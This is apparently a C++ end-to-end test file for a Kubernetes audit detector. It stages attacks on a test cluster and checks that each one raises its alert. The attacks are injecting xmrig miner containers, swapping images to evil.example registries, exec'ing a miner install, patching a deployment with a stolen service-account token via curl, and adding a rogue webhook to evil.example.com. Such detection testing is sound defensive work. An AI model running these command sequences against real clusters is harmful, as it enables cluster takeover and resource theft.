// End to end against the real test control plane (scripts/controlplane.sh):
// the attacks S1, S2, S3, S4 and S6 and ordinary work are performed with
// kubectl and curl, the API server writes its audit log, and `kubeguard
// audit` must raise each attack's alert and nothing high on ordinary work.
// Skipped unless KG_CLUSTER_E2E=1 (which starts a control plane if none runs). Everything is
// filtered to this test's namespaces and webhook name: other tests may use
// the same control plane at the same time.
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <fstream>
#include <thread>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "cluster/live_cluster.h"
#include "doc/json_loader.h"
#include "support/test_support.h"

namespace kg::testing {
namespace {

struct LiveAlert {
  std::string rule;
  std::string severity;
  std::string ns;
  std::string name;
  std::string resource;
  std::string subresource;
  std::string user;
  std::string user_agent;
  std::string message;
  std::string evidence;  // "key=value;" pairs
};

std::string str(const doc::Node* n, std::string_view key) {
  const doc::Node* v = n == nullptr ? nullptr : n->get(key);
  return v == nullptr ? std::string() : std::string(v->str());
}

std::vector<LiveAlert> parse_alerts(const std::string& text) {
  std::vector<LiveAlert> out;
  doc::parse_json_stream(
      text, "alerts",
      [&](doc::Document&& d) {
        LiveAlert a;
        a.rule = str(&d.root, "rule");
        a.severity = str(&d.root, "severity");
        a.user = str(&d.root, "user");
        a.user_agent = str(&d.root, "userAgent");
        a.message = str(&d.root, "message");
        const doc::Node* ref = d.root.get("objectRef");
        a.ns = str(ref, "namespace");
        a.name = str(ref, "name");
        a.resource = str(ref, "resource");
        a.subresource = str(ref, "subresource");
        if (const doc::Node* ev = d.root.get("evidence"); ev != nullptr) {
          for (const auto& e : ev->items()) a.evidence += str(&e, "key") + "=" + str(&e, "value") + ";";
        }
        out.push_back(std::move(a));
      },
      [](doc::LoadError&&) {});
  return out;
}

bool high_or_above(const LiveAlert& a) { return a.severity == "high" || a.severity == "critical"; }

TEST(LiveAudit, AttacksRaiseTheirAlertsAndOrdinaryWorkStaysQuiet) {
  std::string why;
  auto live = live_cluster(&why);
  if (!live) GTEST_SKIP() << why;
  const std::string log = controlplane_audit_log();
  ASSERT_FALSE(log.empty()) << "scripts/controlplane.sh env printed no KUBEGUARD_AUDIT_LOG";
  const std::string id = std::to_string(getpid());
  const std::string ok = "kg-audit-ok-" + id;
  const std::string bad = "kg-audit-attack-" + id;
  const std::string hook = "kg-audit-rogue-" + id;
  struct Cleanup {
    const LiveCluster& live;
    std::string ok, bad, hook;
    ~Cleanup() {
      run_with_kubeconfig(live, "kubectl delete mutatingwebhookconfiguration " + hook +
                                    " --ignore-not-found >/dev/null 2>&1; kubectl delete namespace " + ok + " " + bad +
                                    " --wait=false >/dev/null 2>&1");
    }
  } cleanup{*live, ok, bad, hook};
  auto sh = [&](const std::string& command) {
    std::string out;
    int rc = run_with_kubeconfig(*live, command + " 2>&1", &out);
    return std::make_pair(rc, out);
  };
  for (const auto& ns : {ok, bad}) {
    auto [rc, out] = sh("kubectl create namespace " + ns + " && " + wait_for_default_service_account(ns));
    ASSERT_EQ(rc, 0) << out;
  }

  // Ordinary work: create, scale, rollout restart, delete, an istio-injected pod.
  {
    auto [rc, out] =
        sh("kubectl -n " + ok + " create deployment web --image=nginx:1.25 && kubectl -n " + ok +
           " scale deployment web --replicas=3 && kubectl -n " + ok + " rollout restart deployment web && kubectl -n " +
           ok + " create deployment gone --image=nginx:1.25 && kubectl -n " + ok +
           " delete deployment gone && kubectl -n " + ok + " apply -f " +
           live_detail::quote(corpus("manifests/istio/injected-sidecars/pod.injected.yaml")));
    ASSERT_EQ(rc, 0) << out;
  }

  // S1: a two-container Deployment; a container added by strategic-merge
  // patch, the last container's image swapped (kubectl set image), and a JSON patch.
  const std::string app = fmt::format(
      R"({{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"app","namespace":"{}"}},"spec":{{"selector":{{"matchLabels":{{"app":"app"}}}},"template":{{"metadata":{{"labels":{{"app":"app"}}}},"spec":{{"containers":[{{"name":"web","image":"nginx:1.25"}},{{"name":"helper","image":"busybox:1.36","command":["sleep","3600"]}}]}}}}}}}})",
      bad);
  {
    auto [rc, out] = sh("echo " + live_detail::quote(app) + " | kubectl create -f - && kubectl -n " + bad +
                        " patch deployment app -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":"
                        "\"miner\",\"image\":\"xmrig/xmrig:6.21\"}]}}}}' && kubectl -n " +
                        bad + " set image deployment/app helper=evil.example/helper:1 && kubectl -n " + bad +
                        " patch deployment app --type=json -p '[{\"op\":\"replace\",\"path\":\"/spec/template/spec/"
                        "containers/0/image\",\"value\":\"evil.example/web:2\"}]'");
    ASSERT_EQ(rc, 0) << out;
  }

  // S6 then S2: a pod running as service account "builder" (which may patch
  // deployments); someone execs into it (it stays Pending without nodes, so
  // the exec fails, but the API server logs the attempt), then uses the
  // service account's token with curl.
  {
    auto [rc, out] =
        sh("kubectl -n " + bad + " create serviceaccount builder && kubectl -n " + bad +
           " create role patcher --verb=get,patch,create --resource=deployments,pods && kubectl -n " + bad +
           " create rolebinding builder --role=patcher --serviceaccount=" + bad + ":builder && kubectl -n " + bad +
           " run victim --image=nginx:1.25 --overrides='{\"spec\":{\"serviceAccountName\":\"builder\"}}'");
    ASSERT_EQ(rc, 0) << out;
  }
  {
    auto [rc, out] = sh("kubectl -n " + bad + " exec victim -- sh -c 'apt-get install -y xmrig'");
    EXPECT_NE(rc, 0) << "the pod has no node: exec is expected to fail";
    EXPECT_NE(out.find("does not have a host assigned"), std::string::npos) << out;
  }
  {
    auto [rc, server] = sh("kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}'");
    ASSERT_EQ(rc, 0) << server;
    // The CA as a file: the kubeconfig names one, or carries it inline.
    auto [rc2, ca_path] = sh("kubectl config view --minify -o jsonpath='{.clusters[0].cluster.certificate-authority}'");
    ASSERT_EQ(rc2, 0) << ca_path;
    std::string ca_file = "/tmp/kg-audit-live-ca-" + id + ".crt";
    std::string copy = ca_path.empty() ? "kubectl config view --minify --raw -o "
                                         "jsonpath='{.clusters[0].cluster.certificate-authority-data}' | base64 -d > " +
                                             ca_file
                                       : "cp " + live_detail::quote(ca_path) + " " + ca_file;
    ASSERT_EQ(sh(copy).first, 0);
    // TokenRequest API (what `kubectl create token` calls).
    auto [rc3, token] = sh("kubectl -n " + bad + " create token builder --duration=10m");
    ASSERT_EQ(rc3, 0) << token;
    while (!token.empty() && (token.back() == '\n' || token.back() == '\r')) token.pop_back();
    std::string patch =
        R"({"spec":{"template":{"spec":{"containers":[{"name":"sa-miner","image":"xmrig/xmrig:6.21"}]}}}})";
    // The token goes through a file, never onto a command line that a log could keep.
    std::string header_file = "/tmp/kg-audit-live-hdr-" + id;
    {
      std::ofstream h(header_file);
      h << "Authorization: Bearer " << token << "\n";
    }
    auto [rc4, response] =
        sh("curl -sS --fail --cacert " + ca_file + " -H @" + header_file +
           " -H 'Content-Type: application/strategic-merge-patch+json' -X PATCH --data " + live_detail::quote(patch) +
           " " + server + "/apis/apps/v1/namespaces/" + bad + "/deployments/app -o /dev/null -w '%{http_code}'");
    std::remove(header_file.c_str());
    std::remove(ca_file.c_str());
    ASSERT_EQ(rc4, 0) << response;
    EXPECT_EQ(response, "200");
  }

  // S3: an ephemeral container through pods/ephemeralcontainers.
  {
    auto [rc, out] = sh("kubectl -n " + bad + " debug victim --image=busybox:1.36 -c dbg --profile=general -- sh");
    ASSERT_EQ(rc, 0) << out;
  }

  // S4: a rogue MutatingWebhookConfiguration (limited to this test's
  // namespace so that it cannot slow down other tests' pods).
  {
    std::string webhook = fmt::format(
        R"({{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{{"name":"{}"}},"webhooks":[{{"name":"inject.evil.example.com","clientConfig":{{"url":"https://evil.example.com/mutate"}},"rules":[{{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}}],"namespaceSelector":{{"matchLabels":{{"kubernetes.io/metadata.name":"{}"}}}},"failurePolicy":"Ignore","sideEffects":"None","timeoutSeconds":1,"admissionReviewVersions":["v1"]}}]}})",
        hook, bad);
    auto [rc, out] = sh("echo " + live_detail::quote(webhook) + " | kubectl create -f -");
    ASSERT_EQ(rc, 0) << out;
  }

  // The log backend writes synchronously; a moment for the last lines anyway.
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  std::string json;
  int code = run_kubeguard("audit -q -f json " + live_detail::quote(log), &json);
  EXPECT_TRUE(code == 0 || code == 1 || code == 2) << code;
  std::vector<LiveAlert> all = parse_alerts(json);

  std::vector<LiveAlert> attack, ordinary;
  for (const auto& a : all) {
    if (a.ns == bad || a.name == hook) attack.push_back(a);
    if (a.ns == ok) ordinary.push_back(a);
  }
  auto find = [&](std::string_view rule, auto&& pred) {
    for (const auto& a : attack) {
      if (a.rule == rule && pred(a)) return &a;
    }
    return static_cast<const LiveAlert*>(nullptr);
  };
  auto any = [](const LiveAlert&) { return true; };
  std::string listing;
  for (const auto& a : attack) listing += a.rule + " " + a.severity + " " + a.message + "\n";

  // S1
  const LiveAlert* added =
      find("KG-AUD-001", [](const LiveAlert& a) { return a.evidence.find("container=miner;") != std::string::npos; });
  ASSERT_NE(added, nullptr) << listing;
  EXPECT_EQ(added->severity, "critical");
  EXPECT_EQ(added->user, "kubeguard-admin");
  const LiveAlert* swapped =
      find("KG-AUD-002", [](const LiveAlert& a) { return a.evidence.find("container=helper;") != std::string::npos; });
  ASSERT_NE(swapped, nullptr) << listing;
  EXPECT_NE(swapped->evidence.find("previousImage=busybox:1.36;"), std::string::npos) << swapped->evidence;
  EXPECT_NE(find("KG-AUD-002",
                 [](const LiveAlert& a) { return a.evidence.find("image=evil.example/web:2;") != std::string::npos; }),
            nullptr)
      << listing;
  // S2
  const LiveAlert* sa = find("KG-AUD-008", [](const LiveAlert& a) { return a.user_agent.starts_with("curl/"); });
  ASSERT_NE(sa, nullptr) << listing;
  EXPECT_EQ(sa->user, "system:serviceaccount:" + bad + ":builder");
  EXPECT_NE(sa->evidence.find("userAgentNote=curl"), std::string::npos);
  EXPECT_NE(find("KG-AUD-001",
                 [](const LiveAlert& a) { return a.evidence.find("container=sa-miner;") != std::string::npos; }),
            nullptr)
      << listing;
  // S6, and the incident it starts.
  const LiveAlert* exec = find("KG-AUD-007", any);
  ASSERT_NE(exec, nullptr) << listing;
  EXPECT_EQ(exec->severity, "critical");
  EXPECT_NE(exec->evidence.find("command=sh -c apt-get install -y xmrig;"), std::string::npos) << exec->evidence;
  EXPECT_NE(exec->evidence.find("outcome=authorised; the session failed with HTTP 400"), std::string::npos)
      << exec->evidence;
  const LiveAlert* incident = find("KG-AUD-018", any);
  ASSERT_NE(incident, nullptr) << listing;
  EXPECT_EQ(incident->severity, "critical");
  EXPECT_NE(incident->evidence.find("podServiceAccount=builder;"), std::string::npos) << incident->evidence;
  // S3
  const LiveAlert* eph =
      find("KG-AUD-006", [](const LiveAlert& a) { return a.evidence.find("container=dbg;") != std::string::npos; });
  ASSERT_NE(eph, nullptr) << listing;
  EXPECT_EQ(eph->severity, "high");
  // S4
  const LiveAlert* wh = find("KG-AUD-009", any);
  ASSERT_NE(wh, nullptr) << listing;
  EXPECT_EQ(wh->severity, "critical");
  EXPECT_NE(wh->evidence.find("target=URL https://evil.example.com/mutate;"), std::string::npos) << wh->evidence;

  // Ordinary work: nothing high or critical.
  for (const auto& a : ordinary) {
    EXPECT_FALSE(high_or_above(a)) << a.rule << " " << a.severity << " " << a.message;
  }
  // Secret values never appear: the service-account token is not in the output.
  EXPECT_EQ(json.find("Bearer"), std::string::npos);
}

// A workload of a custom resource: the Argo Rollouts CRD (its schema left
// open, as a CRD without a controller here), a Rollout created with a
// privileged container, then a container added by a merge patch. The API
// server logs both with their bodies (scripts/controlplane/audit-policy.yaml)
// and `kubeguard audit` judges them as it judges a Deployment.
TEST(LiveAudit, ARolloutOfACustomResourceIsJudgedLikeADeployment) {
  std::string why;
  auto live = live_cluster(&why);
  if (!live) GTEST_SKIP() << why;
  const std::string log = controlplane_audit_log();
  ASSERT_FALSE(log.empty()) << "scripts/controlplane.sh env printed no KUBEGUARD_AUDIT_LOG";
  const LiveNamespace space(*live, "kg-audit-crd");
  const std::string& ns = space.name();
  auto sh = [&](const std::string& command) {
    std::string out;
    int rc = run_with_kubeconfig(*live, command + " 2>&1", &out);
    return std::make_pair(rc, out);
  };
  const std::string crd =
      R"({"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"rollouts.argoproj.io"},"spec":{"group":"argoproj.io","scope":"Namespaced","names":{"plural":"rollouts","singular":"rollout","kind":"Rollout"},"versions":[{"name":"v1alpha1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}}]}})";
  {
    auto [rc, out] = sh("echo " + live_detail::quote(crd) +
                        " | kubectl apply -f - && kubectl wait --for condition=established --timeout=60s "
                        "crd/rollouts.argoproj.io");
    ASSERT_EQ(rc, 0) << out;
  }
  ASSERT_EQ(space.create(), "");
  const std::string rollout = fmt::format(
      R"({{"apiVersion":"argoproj.io/v1alpha1","kind":"Rollout","metadata":{{"name":"web","namespace":"{}"}},"spec":{{"replicas":2,"selector":{{"matchLabels":{{"app":"web"}}}},"strategy":{{"canary":{{"steps":[{{"setWeight":20}}]}}}},"template":{{"metadata":{{"labels":{{"app":"web"}}}},"spec":{{"containers":[{{"name":"app","image":"nginx:1.27","securityContext":{{"privileged":true}}}}]}}}}}}}})",
      ns);
  // The CRD's resource may take a moment to be served after it is established.
  std::pair<int, std::string> created;
  for (int i = 0; i < 20; ++i) {
    created = sh("echo " + live_detail::quote(rollout) + " | kubectl create -f -");
    if (created.first == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
  }
  ASSERT_EQ(created.first, 0) << created.second;
  {
    auto [rc, out] = sh(
        "kubectl -n " + ns +
        R"( patch rollout web --type=merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"nginx:1.27","securityContext":{"privileged":true}},{"name":"miner","image":"xmrig/xmrig:6.21"}]}}}}')");
    ASSERT_EQ(rc, 0) << out;
  }
  std::this_thread::sleep_for(std::chrono::milliseconds(500));  // the log backend writes synchronously; a margin
  std::string json;
  int code = run_kubeguard("audit -q -f json " + live_detail::quote(log), &json);
  EXPECT_EQ(code, 1);
  std::vector<LiveAlert> mine;
  std::string listing;
  for (auto& a : parse_alerts(json)) {
    if (a.ns != ns) continue;
    listing += a.rule + " " + a.severity + " " + a.resource + "/" + a.name + " " + a.message + "\n";
    mine.push_back(std::move(a));
  }
  auto has = [&](std::string_view rule, std::string_view evidence) {
    return std::any_of(mine.begin(), mine.end(), [&](const LiveAlert& a) {
      return a.rule == rule && a.resource == "rollouts" && a.name == "web" &&
             a.evidence.find(evidence) != std::string::npos;
    });
  };
  EXPECT_TRUE(has("KG-POD-001", "")) << "the privileged container of the created Rollout:\n" << listing;
  EXPECT_TRUE(has("KG-AUD-017", "")) << listing;
  EXPECT_TRUE(has("KG-AUD-001", "container=miner;")) << "the container the patch added:\n" << listing;
}

}  // namespace
}  // namespace kg::testing
